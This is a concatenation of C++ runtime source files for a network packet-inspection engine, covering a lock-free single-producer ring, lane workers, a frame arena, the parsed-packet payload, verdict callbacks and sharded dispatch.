  /// Shared external slow path (built only when cfg.external_slowpath).
  std::unique_ptr<slowpath::SlowPathService> slowpath_;
  /// Dispatcher-thread writer, any-thread reader (like the lane counters).
  std::atomic<std::uint64_t> rejected_{0};
  bool running_ = false;
};

}  // namespace sdt::runtime
