// Bounded lock-free single-producer / single-consumer ring — the conduit
// between the dispatcher thread and each lane worker.
//
// One producer (the dispatcher) and one consumer (the lane thread) each own
// one index; the only sharing is an acquire/release handoff per side, plus a
// producer-private cache of the consumer's index (and vice versa) so the
// uncontended fast path touches no foreign cache line at all. The batch
// push/pop entry points amortize that handoff over up to a whole dispatch
// batch — one acquire + one release per batch, not per packet. Capacity is
// exact (not rounded up): a ring asked to hold N packets holds exactly N,
// so backpressure math — ring occupancy, high-water marks, drop accounting —
// means what it says.
#pragma once

#include <algorithm>
#include <atomic>
#include <cstddef>
#include <utility>
#include <vector>

#include "util/error.hpp"

namespace sdt::runtime {

template <typename T>
class SpscRing {
 public:
  explicit SpscRing(std::size_t capacity) : capacity_(capacity) {
    if (capacity == 0) throw InvalidArgument("SpscRing: capacity == 0");
    std::size_t slots = 1;
    while (slots < capacity) slots <<= 1;
    slots_.resize(slots);
    mask_ = slots - 1;
  }

  // One producer, one consumer: the ring is a fixed rendezvous point, not a
  // value.
  SpscRing(const SpscRing&) = delete;
  SpscRing& operator=(const SpscRing&) = delete;

  /// Producer only. On success the value is moved into the ring; on failure
  /// (ring full) `v` is left untouched so the caller can retry or shed it.
  bool try_push(T&& v) {
    const std::size_t tail = tail_.load(std::memory_order_relaxed);
    if (tail - head_cache_ >= capacity_) {
      head_cache_ = head_.load(std::memory_order_acquire);
      if (tail - head_cache_ >= capacity_) return false;
    }
    slots_[tail & mask_] = std::move(v);
    tail_.store(tail + 1, std::memory_order_release);
    // Producer-side occupancy watermark; `head_cache_` lags reality, so this
    // only ever over-estimates occupancy — safe for a high-water stat.
    const std::size_t occ = tail + 1 - head_cache_;
    if (occ > high_water_.load(std::memory_order_relaxed)) {
      high_water_.store(occ, std::memory_order_relaxed);
    }
    return true;
  }

  /// Producer only. Pushes up to `n` values from `items` (moved in FIFO
  /// order) and returns how many fit — one acquire of the consumer's index
  /// and one release of the producer's index amortized over the whole
  /// batch, instead of one pair per packet. A short return (0..n-1) means
  /// the ring filled; `items[returned..n)` are left untouched so the caller
  /// can retry, shed, or re-stage them.
  std::size_t try_push_batch(T* items, std::size_t n) {
    if (n == 0) return 0;
    const std::size_t tail = tail_.load(std::memory_order_relaxed);
    std::size_t free = capacity_ - (tail - head_cache_);
    if (free < n) {
      head_cache_ = head_.load(std::memory_order_acquire);
      free = capacity_ - (tail - head_cache_);
      if (free == 0) return 0;
    }
    const std::size_t k = std::min(free, n);
    for (std::size_t i = 0; i < k; ++i) {
      slots_[(tail + i) & mask_] = std::move(items[i]);
    }
    tail_.store(tail + k, std::memory_order_release);
    const std::size_t occ = tail + k - head_cache_;
    if (occ > high_water_.load(std::memory_order_relaxed)) {
      high_water_.store(occ, std::memory_order_relaxed);
    }
    return k;
  }

  /// Consumer only.
  bool try_pop(T& out) {
    const std::size_t head = head_.load(std::memory_order_relaxed);
    if (head == tail_cache_) {
      tail_cache_ = tail_.load(std::memory_order_acquire);
      if (head == tail_cache_) return false;
    }
    out = std::move(slots_[head & mask_]);
    head_.store(head + 1, std::memory_order_release);
    return true;
  }

  /// Consumer only. Pops up to `max` values into `out` (FIFO order) and
  /// returns how many were available — the batch-drain mirror of
  /// try_push_batch, with the acquire/release pair amortized the same way.
  std::size_t try_pop_batch(T* out, std::size_t max) {
    if (max == 0) return 0;
    const std::size_t head = head_.load(std::memory_order_relaxed);
    std::size_t avail = tail_cache_ - head;
    if (avail < max) {
      tail_cache_ = tail_.load(std::memory_order_acquire);
      avail = tail_cache_ - head;
      if (avail == 0) return 0;
    }
    const std::size_t k = std::min(avail, max);
    for (std::size_t i = 0; i < k; ++i) {
      out[i] = std::move(slots_[(head + i) & mask_]);
    }
    head_.store(head + k, std::memory_order_release);
    return k;
  }

  /// Any thread; instantaneous (may be stale by the time you look at it).
  /// `head_` must be loaded *before* `tail_`: head only grows, so a stale
  /// head paired with a fresher tail can only over-count — the difference
  /// never underflows. (Tail-first, a pop between the two loads makes
  /// `tail - head` wrap to ~2^64.) A push between the loads can still push
  /// the over-count past capacity, so clamp.
  std::size_t size() const {
    const std::size_t head = head_.load(std::memory_order_acquire);
    const std::size_t tail = tail_.load(std::memory_order_acquire);
    return std::min(tail - head, capacity_);
  }
  bool empty() const { return size() == 0; }

  std::size_t capacity() const { return capacity_; }

  /// Largest occupancy ever observed by the producer. Any thread.
  std::size_t high_water() const {
    return high_water_.load(std::memory_order_relaxed);
  }

 private:
  std::vector<T> slots_;
  std::size_t mask_ = 0;
  std::size_t capacity_;

  // Head and tail are monotonically increasing packet counts; slot index is
  // `count & mask_`. Unsigned wraparound keeps `tail - head` correct.
  alignas(64) std::atomic<std::size_t> head_{0};  // consumer-owned
  alignas(64) std::atomic<std::size_t> tail_{0};  // producer-owned
  alignas(64) std::size_t head_cache_ = 0;        // producer-private
  alignas(64) std::size_t tail_cache_ = 0;        // consumer-private
  std::atomic<std::size_t> high_water_{0};
};

}  // namespace sdt::runtime
