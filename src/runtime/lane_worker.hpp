// LaneWorker: one hardware thread owning one SplitDetectEngine outright.
//
// The worker drains its SPSC ring of ParsedPackets — frames the dispatcher
// already validated and indexed — rehydrates each packet's view with offset
// arithmetic (no re-parse; the dispatcher did the only parse), runs it
// through its private engine, collects alerts locally (no shared alert
// sink, no locks on the packet path), recycles the batch's arena slots back
// to its PacketArena free list, and runs periodic expire() housekeeping
// ticks. Everything the engine touches is thread-private; the only
// cross-thread traffic is the ring handoff, the arena free list (both SPSC)
// and a handful of monotonically increasing atomic counters that the stats
// poller reads with relaxed loads.
#pragma once

#include <atomic>
#include <cstdint>
#include <thread>
#include <vector>

#include "control/registry.hpp"
#include "core/engine.hpp"
#include "runtime/packet_arena.hpp"
#include "runtime/parsed_packet.hpp"
#include "runtime/spsc_ring.hpp"
#include "runtime/verdict_feedback.hpp"
#include "telemetry/counter.hpp"
#include "telemetry/histogram.hpp"

namespace sdt::runtime {

/// Live per-lane counters. Each field has exactly one writer (`fed`,
/// `dropped`, and `non_ip`: the dispatcher that owns this lane — the feed()
/// caller in inline mode, the owning shard thread in sharded mode; the
/// rest: the lane thread); any thread may read them at any time, so a stats
/// poll never blocks a packet.
///
/// Layout: the two writer threads get disjoint cache lines (alignas on the
/// group leaders), so the dispatcher bumping `fed` never invalidates the
/// line the lane thread is bumping `processed` on. Within a group the
/// counters deliberately share a line — one thread touching one hot line
/// per packet beats five padded singletons.
struct LaneCounters {
  // Dispatcher-thread group — its own cache line.
  alignas(telemetry::kCacheLine)
  std::atomic<std::uint64_t> fed{0};        // packets routed to this lane
  std::atomic<std::uint64_t> dropped{0};    // shed at the ring (drop policy)
  std::atomic<std::uint64_t> non_ip{0};     // fed frames without an IPv4 layer
  // Lane-thread group — its own cache line.
  alignas(telemetry::kCacheLine)
  std::atomic<std::uint64_t> processed{0};  // packets through the engine
  std::atomic<std::uint64_t> bytes{0};      // frame bytes through the engine
  std::atomic<std::uint64_t> alerts{0};
  std::atomic<std::uint64_t> diverted{0};   // packets sent to the slow path
  std::atomic<std::uint64_t> busy_ns{0};    // time spent inside the engine
  std::atomic<std::uint64_t> adoptions{0};  // rule-set versions adopted
  std::atomic<std::uint64_t> adopted_version{0};  // version now running
};

class LaneWorker {
 public:
  LaneWorker(const core::SignatureSet& sigs,
             const core::SplitDetectConfig& engine_cfg,
             std::size_t ring_capacity, std::size_t expire_every,
             const PacketArena::Config& arena_cfg);
  /// Hot-reload shape: lanes share ONE immutable compiled artifact instead
  /// of each compiling a private copy (N× memory → 1×).
  LaneWorker(core::RuleSetHandle rules,
             const core::SplitDetectConfig& engine_cfg,
             std::size_t ring_capacity, std::size_t expire_every,
             const PacketArena::Config& arena_cfg);
  ~LaneWorker();

  LaneWorker(const LaneWorker&) = delete;
  LaneWorker& operator=(const LaneWorker&) = delete;

  void start();
  /// Ask the thread to exit once its ring is empty. The dispatcher must have
  /// stopped feeding this lane first; every packet already pushed is still
  /// processed (never silently lost).
  void request_stop();
  void join();

  /// Wire this lane to a rule-set registry before start(): the worker then
  /// probes registry->current_version() each loop iteration (one acquire
  /// load — the whole per-packet cost of reloadability) and, on a change,
  /// swaps its engine at the packet boundary and reports the adoption to
  /// slot `slot` (from RuleSetRegistry::subscribe). The registry must
  /// outlive the worker thread.
  void attach_registry(control::RuleSetRegistry* registry, std::size_t slot);

  /// Install an external slow-path sink on this lane's engine (see
  /// SplitDetectEngine::set_divert_sink). Call before start(); the sink —
  /// typically one slowpath::SlowPathService shared by all lanes — must
  /// outlive the worker thread.
  void set_divert_sink(core::DivertSink* sink) {
    engine_.set_divert_sink(sink);
  }

  /// Install the wire-side verdict feedback (see verdict_feedback.hpp):
  /// the worker then asks its engine for per-packet actions and reports
  /// the verdict of every ticketed packet BEFORE the `processed` release-
  /// add, so Runtime::drain() returning implies every verdict delivered.
  /// `lane` is this worker's global lane index. Call before start(); with
  /// no feedback installed the action array is never requested (zero
  /// added cost).
  void set_verdict_feedback(VerdictFeedback* fb, std::size_t lane) {
    feedback_ = fb;
    lane_index_ = lane;
  }

  SpscRing<ParsedPacket>& ring() { return ring_; }
  const SpscRing<ParsedPacket>& ring() const { return ring_; }
  /// This lane's frame-slab pool. Borrower: the owning dispatcher (before
  /// start(), any setup code); recycler: the lane thread (see PacketArena's
  /// threading contract).
  PacketArena& arena() { return arena_; }
  const PacketArena& arena() const { return arena_; }
  LaneCounters& counters() { return counters_; }
  const LaneCounters& counters() const { return counters_; }

  /// Per-packet engine latency, recorded by the lane thread, snapshot-safe
  /// from any thread (single-writer log2 histogram).
  const telemetry::LogHistogram& latency_ns() const { return latency_ns_; }
  /// Frame sizes through the engine, same discipline.
  const telemetry::LogHistogram& frame_bytes() const { return frame_bytes_; }

  /// Lane-local alert log, in this lane's processing order. Only valid once
  /// the thread has been join()ed — the worker appends without locks.
  const std::vector<core::Alert>& alerts() const { return alerts_; }
  /// The lane's private engine, for post-join deep stats. Same caveat.
  const core::SplitDetectEngine& engine() const { return engine_; }

 private:
  void run();
  void maybe_adopt();

  core::SplitDetectEngine engine_;
  SpscRing<ParsedPacket> ring_;
  PacketArena arena_;
  LaneCounters counters_;
  telemetry::LogHistogram latency_ns_;
  telemetry::LogHistogram frame_bytes_;
  std::vector<core::Alert> alerts_;
  std::size_t expire_every_;
  /// Optional wire-side verdict reporting (null = no per-packet actions).
  VerdictFeedback* feedback_ = nullptr;
  std::size_t lane_index_ = 0;
  /// Optional version feed (null = fixed rule set, zero added cost).
  control::RuleSetRegistry* registry_ = nullptr;
  std::size_t registry_slot_ = 0;
  /// Lane-thread-private copy of the adopted version (the probe compares
  /// against this, not the atomic, so the hot path stays one load).
  std::uint64_t adopted_version_ = 0;
  std::atomic<bool> stop_{false};
  std::thread thread_;
};

}  // namespace sdt::runtime
