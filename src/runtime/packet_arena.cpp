#include "runtime/packet_arena.hpp"

#include <cstring>

#include "util/error.hpp"

namespace sdt::runtime {

PacketArena::PacketArena(const Config& cfg)
    : slots_(cfg.slots),
      slab_bytes_(cfg.slab_bytes),
      poison_(cfg.poison_on_recycle),
      storage_(cfg.slots * cfg.slab_bytes),
      free_(cfg.slots) {
  if (cfg.slots == 0) throw InvalidArgument("PacketArena: slots == 0");
  if (cfg.slab_bytes == 0) throw InvalidArgument("PacketArena: slab_bytes == 0");
  if (cfg.slots >= kNoSlot) {
    throw InvalidArgument("PacketArena: slots >= kNoSlot sentinel");
  }
  // Pre-fill the free list before any concurrency exists; construction
  // happens-before thread start, so both sides see a full pool.
  for (std::uint32_t i = 0; i < slots_; ++i) {
    free_.try_push(std::uint32_t{i});
  }
}

std::uint32_t PacketArena::try_borrow() {
  std::uint32_t slot = kNoSlot;
  if (!free_.try_pop(slot)) {
    exhausted_.fetch_add(1, std::memory_order_relaxed);
    return kNoSlot;
  }
  const std::uint64_t b =
      borrows_.fetch_add(1, std::memory_order_relaxed) + 1;
  // Occupancy as the borrower sees it. `recycles_` may lag reality, so this
  // only ever over-estimates — safe for a high-water stat (same discipline
  // as the ring's producer-side watermark).
  const std::size_t occ = static_cast<std::size_t>(
      b - recycles_.load(std::memory_order_relaxed));
  if (occ > high_water_.load(std::memory_order_relaxed)) {
    high_water_.store(occ, std::memory_order_relaxed);
  }
  return slot;
}

void PacketArena::recycle(std::uint32_t* ids, std::size_t n) {
  if (n == 0) return;
  if (poison_) {
    for (std::size_t i = 0; i < n; ++i) {
      std::memset(slab(ids[i]).data(), 0xDD, slab_bytes_);
    }
  }
  // The free list is sized to hold every slot, and each id is outstanding
  // exactly once, so these pushes cannot fail; the loop documents the
  // invariant rather than trusting it silently.
  std::size_t pushed = 0;
  while (pushed < n) {
    pushed += free_.try_push_batch(ids + pushed, n - pushed);
  }
  recycles_.fetch_add(n, std::memory_order_relaxed);
}

}  // namespace sdt::runtime
