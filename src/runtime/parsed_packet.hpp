// ParsedPacket: the ring payload of the parse-once pipeline.
//
// The dispatcher validates and indexes each frame exactly once
// (net::PacketIndex); the frame bytes and the index travel together through
// the SPSC ring, and the lane worker rehydrates a PacketView with offset
// arithmetic — no header is ever parsed twice. The index stores offsets,
// not pointers, so the view survives every move the packet makes.
//
// Storage comes in two shapes:
//   * arena — `data` points into a lane-local PacketArena slab identified
//     by `slot`; the slab address is stable for the borrow's lifetime (the
//     arena never reallocates), and the lane recycles the slot after
//     processing. This is the steady-state hot path: no allocation, no
//     free, one memcpy at ingest.
//   * heap — `heap` owns the frame (`slot == kNoSlot`): the fallback for
//     frames larger than a slab, and the shape arena-less callers (tests,
//     single-packet tools) use. Moving a Bytes transfers its allocation,
//     so `data` stays valid across ring transit here too.
#pragma once

#include <cstdint>
#include <utility>

#include "net/packet.hpp"

namespace sdt::runtime {

struct ParsedPacket {
  /// Sentinel for "not an arena borrow" (heap-owning or empty packet).
  /// Matches PacketArena::kNoSlot.
  static constexpr std::uint32_t kNoSlot = 0xffffffffu;

  net::PacketIndex idx;
  std::uint64_t ts_usec = 0;
  /// Wire-side verdict-correlation id, carried through the ring so the lane
  /// can report its verdict against the held packet (net::Packet::kNoTicket
  /// = nobody is waiting).
  std::uint64_t ticket = net::Packet::kNoTicket;
  const std::uint8_t* data = nullptr;  ///< frame bytes (slab or `heap`)
  std::uint32_t len = 0;
  std::uint32_t slot = kNoSlot;  ///< arena slot id; kNoSlot = heap-owning
  Bytes heap;                    ///< owns the frame when slot == kNoSlot

  ParsedPacket() = default;

  /// Heap-owning shape: take the packet's buffer as-is (oversize fallback
  /// and arena-less callers).
  ParsedPacket(net::Packet p, const net::PacketIndex& i)
      : idx(i), ts_usec(p.ts_usec), ticket(p.ticket), heap(std::move(p.frame)) {
    data = heap.data();
    len = static_cast<std::uint32_t>(heap.size());
  }

  /// Arena shape: `bytes` must point into the slab owned by `s`, which the
  /// borrower already filled. The packet references, never owns, the slab —
  /// the consumer recycles `s` when done.
  ParsedPacket(ByteView bytes, const net::PacketIndex& i, std::uint64_t ts,
               std::uint32_t s)
      : idx(i), ts_usec(ts), data(bytes.data()),
        len(static_cast<std::uint32_t>(bytes.size())), slot(s) {}

  // Move-only: copying would alias an arena slot (double recycle) or leave
  // `data` pointing at the source's heap buffer.
  ParsedPacket(const ParsedPacket&) = delete;
  ParsedPacket& operator=(const ParsedPacket&) = delete;
  ParsedPacket(ParsedPacket&& o) noexcept { move_from(std::move(o)); }
  ParsedPacket& operator=(ParsedPacket&& o) noexcept {
    if (this != &o) move_from(std::move(o));
    return *this;
  }

  ByteView frame() const { return ByteView(data, len); }
  bool in_arena() const { return slot != kNoSlot; }

  /// The decoded view over this packet's current frame storage. Cheap
  /// (subspan arithmetic only); valid until the slot is recycled.
  net::PacketView view() const { return idx.view(frame()); }

 private:
  void move_from(ParsedPacket&& o) noexcept {
    idx = o.idx;
    ts_usec = o.ts_usec;
    ticket = o.ticket;
    len = o.len;
    slot = o.slot;
    heap = std::move(o.heap);
    // A vector move transfers the allocation, so the source's data pointer
    // stays correct for heap packets; re-derive anyway for clarity.
    data = heap.empty() ? o.data : heap.data();
    o.data = nullptr;
    o.len = 0;
    o.slot = kNoSlot;
    o.ticket = net::Packet::kNoTicket;
  }
};

}  // namespace sdt::runtime
