// ParsedPacket: the ring payload of the parse-once pipeline.
//
// The dispatcher validates and indexes each frame exactly once
// (net::PacketIndex); the owning packet and its index travel together
// through the SPSC ring, and the lane worker rehydrates a PacketView with
// offset arithmetic — no header is ever parsed twice. The index stores
// offsets, not pointers, so moving the packet (ring slot assignment, batch
// vector moves) cannot dangle the view.
#pragma once

#include "net/packet.hpp"

namespace sdt::runtime {

struct ParsedPacket {
  net::Packet pkt;
  net::PacketIndex idx;

  ParsedPacket() = default;
  ParsedPacket(net::Packet p, const net::PacketIndex& i)
      : pkt(std::move(p)), idx(i) {}

  /// The decoded view over this packet's current frame storage. Cheap
  /// (subspan arithmetic only); call after every move, never before.
  net::PacketView view() const { return idx.view(pkt.frame); }
};

}  // namespace sdt::runtime
