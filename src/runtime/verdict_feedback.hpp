// VerdictFeedback: the runtime's callback surface for inline (hold-until-
// verdict) deployments.
//
// A wire-side router (sdt::wire::VerdictRouter) stamps each submitted frame
// with a ticket (net::Packet::ticket) and installs itself here via
// Runtime::set_verdict_feedback before start(). The pipeline then reports
// the terminal fate of every *ticketed* packet exactly once:
//
//   on_verdict  — the packet went through a lane engine; `action` is the
//                 engine's per-packet verdict (forward / divert / alert).
//                 Called on the LANE thread, before the lane's `processed`
//                 release-add — so a Runtime::drain() that returns has
//                 every verdict already delivered.
//   on_reject   — the frame was malformed and refused at the dispatch edge
//                 (never fed to a lane). Called on whichever thread drives
//                 the dispatching core: the feed() caller in inline-
//                 dispatch mode, a shard thread in sharded mode.
//   on_shed     — the packet was shed by overload policy (arena exhausted
//                 or lane ring full under OverloadPolicy::drop) and no
//                 engine will ever see it. Same threads as on_reject.
//
// Packets without a ticket (the default) trigger no callback, and the lane
// only asks the engine for per-packet actions when feedback is installed —
// trace-driven runs pay nothing.
//
// Implementations must be wait-free-ish and must never call back into the
// Runtime: they run on packet-path threads.
#pragma once

#include <cstdint>

#include "core/verdict.hpp"

namespace sdt::runtime {

class VerdictFeedback {
 public:
  virtual ~VerdictFeedback() = default;

  /// Engine verdict for ticket `ticket`, produced by lane `lane`.
  virtual void on_verdict(std::size_t lane, std::uint64_t ticket,
                          core::Action action) = 0;
  /// Malformed frame refused at the dispatch edge (edge verdict: drop).
  virtual void on_reject(std::uint64_t ticket) = 0;
  /// Shed before any engine saw it (OverloadPolicy::drop only).
  virtual void on_shed(std::uint64_t ticket) = 0;
};

}  // namespace sdt::runtime
