// Sharded ingest: the machinery between feed() and the lane rings.
//
//                     ┌─ ingest ring ─► DispatcherShard 0 ─┬─► lane 0 ring
//   feed(pkt) ─ peek ─┤                 (parse-once, arena │─► lane 2 ring
//   (header hash)     │                  borrow, batching) └─► lane 4 ring
//                     └─ ingest ring ─► DispatcherShard 1 ─┬─► lane 1 ring
//                                                          ├─► lane 3 ring
//                                                          └─► lane 5 ring
//
// DispatchCore is the single dispatching engine: route a raw frame through
// the parse-once edge, reject malformed input, copy the frame into the
// target lane's arena slab, stage it in a per-lane pending batch, and flush
// whole batches into the lane ring (one SPSC acquire/release per batch).
// Exactly one thread drives a core: the feed() caller in inline mode
// (Runtime with dispatchers == 0), or a DispatcherShard's thread in sharded
// mode. Each lane is owned by exactly one core, so every lane ring and
// every arena keeps its single producer / single consumer discipline with
// zero locks.
//
// Sharding is RSS-style: the feeder picks the owning shard with peek_lane —
// a header peek computing the same commutative address-pair hash the full
// parse would — so flow affinity holds end to end and the expensive work
// (validating parse, memcpy, ring handoff) runs on N dispatcher threads
// instead of one.
#pragma once

#include <atomic>
#include <cstdint>
#include <thread>
#include <vector>

#include "runtime/dispatcher.hpp"
#include "runtime/lane_worker.hpp"
#include "runtime/verdict_feedback.hpp"

namespace sdt::runtime {

/// What dispatch does when a lane's ring (or arena) is full.
enum class OverloadPolicy : std::uint8_t {
  /// Wait for the lane to catch up — lossless backpressure (default).
  block,
  /// Shed the packet and count it against the lane — graceful degradation,
  /// never silent: every drop is visible in the stats.
  drop,
};

/// Live per-dispatcher counters. `ingested` is written by the feeder
/// thread, everything else by the thread driving the core; any thread may
/// read them (same single-writer discipline as LaneCounters).
struct DispatchCounters {
  // Feeder-thread group — its own cache line.
  alignas(telemetry::kCacheLine)
  std::atomic<std::uint64_t> ingested{0};  ///< frames pushed at this shard
  // Core-thread group.
  alignas(telemetry::kCacheLine)
  std::atomic<std::uint64_t> consumed{0};  ///< frames fully accounted for
  std::atomic<std::uint64_t> rejected{0};  ///< malformed, refused at the edge
  std::atomic<std::uint64_t> flushes{0};   ///< pending→ring batch flushes
  std::atomic<std::uint64_t> flush_timeouts{0};  ///< flushes forced by age
  std::atomic<std::uint64_t> busy_ns{0};   ///< shard thread dispatch time
  /// Rejects by parse status, indexed by net::ParseStatus. Only the
  /// reject-class statuses (truncated_l2/l3/l4, bad_ip_header,
  /// bad_ext_header, bad_decap) ever tick; the array sums to `rejected`.
  static constexpr std::size_t kParseStatuses = 10;
  std::atomic<std::uint64_t> rejected_by[kParseStatuses]{};
  // Encapsulation dimensions of DELIVERED frames. These are dimensions,
  // not a partition: a VLAN-tagged IPv6 frame ticks both.
  std::atomic<std::uint64_t> delivered_ipv6{0};  ///< inner header was IPv6
  std::atomic<std::uint64_t> delivered_vlan{0};  ///< ≥1 802.1Q tag stripped
  std::atomic<std::uint64_t> delivered_tunneled{0};  ///< VXLAN/GRE decapped
};

/// A lane this core owns: the worker plus its global lane index (the value
/// address_pair_lane / peek_lane produce for its flows).
struct OwnedLane {
  std::size_t index = 0;
  LaneWorker* lane = nullptr;
};

/// The dispatching engine for a fixed set of owned lanes. Single-threaded
/// by contract (see file comment); the only cross-thread edges are the lane
/// rings, the arena free lists, and the atomic counters.
class DispatchCore {
 public:
  DispatchCore(const FlowDispatcher& disp, OverloadPolicy overload,
               std::size_t batch, std::vector<OwnedLane> owned);

  /// Route one raw frame: reject it, or copy it into its lane's arena and
  /// stage it, flushing the lane's batch at the threshold. The conservation
  /// ledger advances exactly once per call (rejected, or fed at flush).
  void ingest(net::Packet&& pkt);

  /// Same routing, but the caller KEEPS ownership of the frame: the bytes
  /// are copied straight into the lane arena (or, for jumbo frames, into a
  /// counted heap fallback) before this returns, so the caller may reuse or
  /// free the buffer immediately. This is the inline-verdict hot path: the
  /// wire router holds the original packet for egress while the engine
  /// inspects the arena copy — one copy total, same as ingest().
  void ingest_borrowed(const net::Packet& pkt);

  /// Install the wire-side verdict feedback (edge rejects and overload
  /// sheds are reported from here; lane verdicts from the LaneWorker).
  /// Call before any packet flows; null detaches.
  void set_verdict_feedback(VerdictFeedback* fb) { feedback_ = fb; }

  /// Flush every lane's pending batch into its ring. Called at the batch
  /// boundary by feed(), and on idle/timeout by the shard loop.
  void flush_all();

  bool has_pending() const;

  DispatchCounters& counters() { return counters_; }
  const DispatchCounters& counters() const { return counters_; }

 private:
  struct LaneSlot {
    LaneWorker* lane = nullptr;
    std::vector<ParsedPacket> pending;
    /// Arena slots reclaimed from shed packets. The borrower may not push
    /// onto the free list (it is the list's consumer), so reclaimed slots
    /// are handed out again from here first.
    std::vector<std::uint32_t> spare;
    std::uint32_t pending_non_ip = 0;
  };

  /// A slot for `ls`'s arena: spare first, then the free list; on
  /// exhaustion flush our own pending (it may hold most of the pool), then
  /// wait (block) or give up (drop → kNoSlot).
  std::uint32_t borrow(LaneSlot& ls);
  void flush(LaneSlot& ls);
  /// Shared routing body. `owner` non-null = ingest() (the jumbo fallback
  /// may steal its buffer); null = ingest_borrowed() (jumbo copies).
  void ingest_frame(net::Packet* owner, const net::Packet& pkt);

  const FlowDispatcher& disp_;
  OverloadPolicy overload_;
  std::size_t batch_;
  VerdictFeedback* feedback_ = nullptr;
  std::vector<LaneSlot> owned_;
  /// Global lane index → position in owned_ (only owned lanes are valid —
  /// peek_lane routing guarantees a shard only ever sees its own lanes).
  std::vector<std::uint32_t> owned_index_;
  DispatchCounters counters_;
};

/// One ingest shard: a bounded ring of raw frames fed by the feeder thread,
/// drained by this shard's own thread into its DispatchCore. The ingest
/// ring is always lossless (the feeder blocks); the overload policy applies
/// at the lane rings, where drops are attributable to a lane.
class DispatcherShard {
 public:
  DispatcherShard(const FlowDispatcher& disp, OverloadPolicy overload,
                  std::size_t batch, std::vector<OwnedLane> owned,
                  std::size_t ingest_capacity,
                  std::uint64_t flush_timeout_us);
  ~DispatcherShard();

  DispatcherShard(const DispatcherShard&) = delete;
  DispatcherShard& operator=(const DispatcherShard&) = delete;

  void start();
  /// Ask the thread to drain its ingest ring, flush, and exit. The feeder
  /// must have stopped pushing to this shard first.
  void request_stop();
  void join();

  SpscRing<net::Packet>& ingest_ring() { return ring_; }
  const SpscRing<net::Packet>& ingest_ring() const { return ring_; }
  DispatchCore& core() { return core_; }
  const DispatchCore& core() const { return core_; }

 private:
  void run();

  DispatchCore core_;
  SpscRing<net::Packet> ring_;
  std::uint64_t flush_timeout_us_;
  std::atomic<bool> stop_{false};
  std::thread thread_;
};

}  // namespace sdt::runtime
