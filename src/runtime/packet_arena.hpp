// PacketArena: a lane-local recycling pool of fixed-size frame slabs — the
// steady-state packet path allocates nothing.
//
// One arena per lane. Exactly two threads ever touch it, in fixed roles:
//
//   * the BORROWER — the dispatcher that owns this lane (the feed() caller
//     in inline mode, the owning dispatcher shard in sharded mode). It pops
//     a free slot id, memcpys the frame into the slab, and ships the slot
//     through the lane's SPSC ring inside a ParsedPacket;
//   * the RECYCLER — the lane thread. After the engine is done with a
//     batch it pushes the slot ids back onto the free list.
//
// The free list is itself an SpscRing<uint32_t> (recycler = producer,
// borrower = consumer), so slab reuse inherits the ring's acquire/release
// handoff: the borrower's next write to a slab happens-after the lane's
// last read of it — no fence bookkeeping, TSan-provable. Slab storage is a
// single allocation that never moves, so pointers into a borrowed slab are
// stable for the borrow's lifetime.
//
// Frames larger than a slab take a counted heap fallback (ParsedPacket's
// heap shape); `heap_fallbacks` staying zero is how the benches assert the
// hot path ran allocation-free.
#pragma once

#include <atomic>
#include <cstdint>

#include "runtime/spsc_ring.hpp"
#include "util/bytes.hpp"

namespace sdt::runtime {

/// Point-in-time arena counters. Each counter has one writer (borrower or
/// recycler side); any thread may snapshot them.
struct PacketArenaStats {
  std::uint64_t borrows = 0;         ///< slots handed out
  std::uint64_t recycles = 0;        ///< slots returned
  std::uint64_t exhausted = 0;       ///< borrow attempts that found no slot
  std::uint64_t heap_fallbacks = 0;  ///< frames too big for a slab
  std::size_t slots = 0;             ///< pool size (fixed at construction)
  std::size_t slab_bytes = 0;        ///< per-slot capacity
  std::size_t high_water = 0;        ///< peak outstanding borrows
  /// Outstanding borrows right now (exact at quiescence; while both sides
  /// run it can transiently over-count by in-flight recycles).
  std::uint64_t outstanding() const { return borrows - recycles; }
};

class PacketArena {
 public:
  /// Matches ParsedPacket::kNoSlot — "no arena slot".
  static constexpr std::uint32_t kNoSlot = 0xffffffffu;

  struct Config {
    std::size_t slots = 256;
    std::size_t slab_bytes = 2048;
    /// Overwrite a recycled slab with 0xDD before returning it to the free
    /// list. Debug/test aid: a consumer holding a view past recycle reads
    /// poison instead of silently-plausible stale bytes. Off on the hot
    /// path.
    bool poison_on_recycle = false;
  };

  explicit PacketArena(const Config& cfg);

  PacketArena(const PacketArena&) = delete;
  PacketArena& operator=(const PacketArena&) = delete;

  std::size_t slots() const { return slots_; }
  std::size_t slab_bytes() const { return slab_bytes_; }

  /// Borrower only. Returns a free slot id, or kNoSlot if every slot is
  /// outstanding (counted in `exhausted`; the caller decides whether to
  /// flush-and-retry, wait, or shed).
  std::uint32_t try_borrow();

  /// The slab owned by `slot`. Stable address; `slab_bytes()` long.
  MutableByteView slab(std::uint32_t slot) {
    return MutableByteView(storage_.data() + std::size_t{slot} * slab_bytes_,
                           slab_bytes_);
  }
  ByteView slab(std::uint32_t slot) const {
    return ByteView(storage_.data() + std::size_t{slot} * slab_bytes_,
                    slab_bytes_);
  }

  /// Recycler only. Returns `n` slot ids to the free list. The caller must
  /// be done reading the slabs — after this, the borrower may overwrite
  /// them at any time.
  void recycle(std::uint32_t* ids, std::size_t n);

  /// Any thread.
  PacketArenaStats stats() const {
    PacketArenaStats s;
    s.borrows = borrows_.load(std::memory_order_relaxed);
    s.recycles = recycles_.load(std::memory_order_relaxed);
    s.exhausted = exhausted_.load(std::memory_order_relaxed);
    s.heap_fallbacks = heap_fallbacks_.load(std::memory_order_relaxed);
    s.slots = slots_;
    s.slab_bytes = slab_bytes_;
    s.high_water = high_water_.load(std::memory_order_relaxed);
    return s;
  }

  /// Borrower-side bookkeeping for a frame that bypassed the arena (bigger
  /// than a slab).
  void count_heap_fallback() {
    heap_fallbacks_.fetch_add(1, std::memory_order_relaxed);
  }

 private:
  std::size_t slots_;
  std::size_t slab_bytes_;
  bool poison_;
  Bytes storage_;                 ///< slots_ * slab_bytes_, never reallocated
  SpscRing<std::uint32_t> free_;  ///< producer: recycler; consumer: borrower

  // Single-writer counters: borrows/exhausted/heap_fallbacks/high_water are
  // borrower-side, recycles is recycler-side.
  std::atomic<std::uint64_t> borrows_{0};
  std::atomic<std::uint64_t> recycles_{0};
  std::atomic<std::uint64_t> exhausted_{0};
  std::atomic<std::uint64_t> heap_fallbacks_{0};
  std::atomic<std::size_t> high_water_{0};
};

}  // namespace sdt::runtime
