#include "runtime/dispatcher.hpp"

#include <algorithm>

#include "util/error.hpp"
#include "util/hash.hpp"

namespace sdt::runtime {

namespace {

